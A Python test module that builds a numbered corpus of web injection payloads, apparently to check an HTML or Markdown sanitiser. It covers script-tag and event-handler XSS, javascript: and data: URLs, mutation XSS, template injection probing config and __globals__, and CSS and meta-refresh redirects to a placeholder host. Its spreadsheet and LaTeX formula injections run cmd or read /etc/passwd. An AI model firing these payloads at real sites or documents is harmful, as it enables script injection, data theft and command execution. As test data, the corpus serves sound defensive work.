"""What strangers type to make a page run, ask or become something: a corpus of our own, by what it aims at.

`RUN` stands for a script that leaves a sentinel, `MARK` for an attribute by which an element is known again,
and `AWAY` for an address of another host; all three hold the payload's number, so that no two are alike.
"""

from typing import NamedTuple

HOST = "elsewhere.invalid"
PRODUCT = "60481729"
"""What a template engine makes of 7777 * 7777."""

CORPUS: dict[str, tuple[str, ...]] = {
    "script elements": (
        "<script>RUN</script>",
        "<ScRiPt MARK>RUN</sCrIpT >",
        "<script MARK src=AWAY></script>",
        "<scr<script>ipt>RUN</scr</script>ipt><script>RUN</script>",
        "</title><script>RUN</script>",
        "</template><script>RUN</script>",
        "--></script><!--<script>--><script>RUN</script>",
    ),
    "event handlers": (
        "<img MARK src=x onerror=RUN>",
        "<img/MARK/src=x/onerror=RUN//>",
        "<img MARK src=x\nonerror\n=\nRUN>",
        "<svg MARK onload=RUN>",
        "<input MARK autofocus onfocus=RUN>",
        "<body MARK onload=RUN onhashchange=RUN>",
        "<iframe MARK srcdoc='<script>top.RUN</script>'></iframe>",
        "<object MARK data=javascript:RUN></object>",
    ),
    "broken-out attributes": (
        '" MARK onmouseover="RUN" x="',
        "' MARK onfocus='RUN' autofocus x='",
        '"MARK x="',
        '"><img MARK src=x onerror=RUN>',
        "'><svg MARK onload=RUN>",
        "x MARK onload=RUN",
        '\\"MARK onload=\\"RUN',
        '"\t\nMARK\tonfocus="RUN"\nautofocus\ttabindex="1',
        '"/><base MARK href="AWAY/',
        '&quot;><b MARK>&#34;&#x3e;"><b MARK>',
    ),
    "addresses": (
        "javascript:RUN",
        " JaVaScRiPt:RUN",
        "java\tscript:RUN",
        "\x01javascript:RUN",
        "javascript&colon;RUN",
        "&#106;&#x61;vascript&#58;RUN",
        "java&Tab;script:RUN",
        "javascript://x/%0aRUN",
        "data:text/html,<script>RUN</script>",
        "DATA:text/html;charset=utf-8,<svg/MARK/onload=RUN>",
        "vbscript:RUN",
        "blob:https:AWAY",
        "file:///RUN",
        'https:AWAY"MARK/onclick="RUN',
        'https:AWAY"><img/MARK/src=x/onerror=RUN>',
        "/'/MARK/onclick='RUN",
        'mailto:a@example.org?subject="><svg/MARK/onload=RUN>',
        "AWAY",
        "/\\elsewhere.invalid/RUN",
        '"<svg/MARK/onload=RUN>"@example.org',
        '10.1234/RUN"><svg/MARK/onload=RUN>',
    ),
    "foreign markup": (
        "<svg><script MARK>RUN</script></svg>",
        "<svg MARK><animate onbegin=RUN attributeName=x dur=1s></svg>",
        "<svg><a MARK xlink:href=javascript:RUN><text y=9>x</text></a></svg>",
        "<svg><use MARK href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg/>#x'></svg>",
        "<math><mtext><table><mglyph><style><!--</style><img MARK title='--><img MARK src=x onerror=RUN>'>",
        "<noscript><p title='</noscript><img MARK src=x onerror=RUN>'>",
        "<form><math><mtext></form><form><mglyph><style></math><img MARK src=x onerror=RUN>",
    ),
    "Markdown": (
        "[x](javascript:RUN)",
        "[x](java&#x73;cript&colon;RUN)",
        "<a MARK href=java&#10;script:RUN>x</a> [x](<&#9;javascript:RUN>)",
        "[x](data:text/html;base64,PHNjcmlwdD5SVU48L3NjcmlwdD4=RUN)",
        "[x][RUN]\n\n[RUN]: vbscript:RUN",
        "<javascript:RUN> <data:text/html,RUN>",
        '[x](/y "\\" MARK onmouseover=\\"RUN")',
        '[x](https:AWAY"MARK/onclick="RUN)',
        "![x](AWAY.png) ![x](javascript:RUN)",
        '![x"onerror="RUN"MARK="](x "\' MARK onerror=RUN")',
        '```"><svg/MARK/onload=RUN>\n</code></pre><script>RUN</script>\n```',
        "<div MARK>\n\n**x**\n\n<script>RUN</script></div>",
        "# <img MARK src=x onerror=RUN>\n> <a MARK href='javascript:RUN'>x</a>",
    ),
    "templates": (
        "{{ 7777*7777 }} RUN",
        "{% set x = 7777*7777 %}{{ x }} RUN",
        "{{ config }}{{ self.__init__.__globals__ }}{{ 7777*7777 }} RUN",
        "{% if 1 %}{{ 7777 * 7777 }}{# RUN #}{% endif %}",
    ),
    "data blocks": (
        "</script><script>RUN</script>",
        '"}</script><script>RUN</script>{"x":"',
        '\\"}</script ><script MARK>RUN//',
        "<!--<script></script><script MARK>RUN</script>",
        "\u2028</script><script>RUN</script>\u2029",
    ),
    "styles": (
        "<style MARK>*{background:url(AWAY)}</style>",
        "<p MARK style='background:url(AWAY)'>x</p>",
        '" style="background:url(AWAY)" MARK x="',
        "<link MARK rel=stylesheet href=AWAY>",
    ),
    "unseen characters": (
        "\u202e<b MARK>\u2066x",
        "\ufeff<script>RUN</script>",
        "\u200b<script>RUN</script>\u200d",
        "<\x00script MARK>RUN</script>",
        "\uff1cscript\uff1eRUN\uff1c/script\uff1e<script>RUN</script>",
    ),
    "head elements": (
        "<meta MARK http-equiv=refresh content='0;url=AWAY'>",
        '0;url=javascript:RUN"http-equiv="refresh"MARK="',
        "<base MARK href=AWAY/>",
        "<link MARK rel=preload as=script href=AWAY>",
        "<form MARK action=AWAY><button>x</button></form>",
        "<plaintext MARK>RUN",
    ),
    "files": (
        '=HYPERLINK("AWAY","RUN")',
        "+RUN+cmd|' /C calc'!A0",
        "@SUM(1)*RUN",
        "\t=1+RUN",
        "},\n  url = {javascript:RUN",
        "10.1234/RUN},note={\\input{/etc/passwd}},x={",
        "\\input{/etc/passwd}\\write18{RUN}%}",
    ),
}  # fmt: skip


class Payload(NamedTuple):
    """One text that tries something."""

    number: int
    aim: str
    text: str


def numbered() -> list[Payload]:
    """Write out the corpus, each payload with its number."""
    found = [(aim, pattern) for aim, patterns in CORPUS.items() for pattern in patterns]
    return [
        Payload(
            number,
            aim,
            pattern.replace("RUN", f"ran={number}")
            .replace("MARK", f"data-hurt={number}")
            .replace("AWAY", f"//{HOST}/{number}"),
        )
        for number, (aim, pattern) in enumerate(found, 1)
    ]


PAYLOADS = numbered()
